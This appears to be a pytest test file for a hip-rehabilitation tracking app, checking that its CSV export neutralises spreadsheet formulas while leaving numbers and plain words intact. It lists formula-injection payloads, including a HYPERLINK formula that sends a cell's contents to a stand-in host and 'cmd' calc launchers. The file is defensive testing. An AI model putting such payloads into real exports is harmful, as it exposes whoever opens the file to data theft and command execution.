"""CSV exports open safely in a spreadsheet: no cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from hipcoach.tracking.exchange import spreadsheet_cell

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_written_as_text(text) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, 7, 23.5, -3, -3.5, "-3", "-3.5", "+4", "2026-01-05", "left"])
def test_numbers_and_plain_words_are_left_as_they_are(value) -> None:
    assert spreadsheet_cell(value) == value


def test_every_cell_of_the_export_is_safe(enrolled, tmp_path) -> None:
    enrolled("note", FORMULAS[0])
    enrolled("note", "--", FORMULAS[2])
    enrolled("activities", "--rate", "@SUM(1+1)=4", "--rate", "+run 5 km=6")
    enrolled("pain", "--rest", "2")
    out = tmp_path / "hipcoach.csv"
    enrolled("export", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit()]
    notes = [r["detail"] for r in rows if r["record"] == "note"]
    assert "'" + FORMULAS[0] in notes and "'" + FORMULAS[2] in notes
    names = {r["name"] for r in rows if r["record"] == "activity"}
    assert names == {"'@SUM(1+1)", "'+run 5 km"}
    pain = next(r for r in rows if r["record"] == "pain")
    assert pain["value"] == "2"  # a number, as it was
    left = next(r for r in rows if r["record"] == "measurement" and r["side"] == "left")
    assert left["value"] == "23.0"
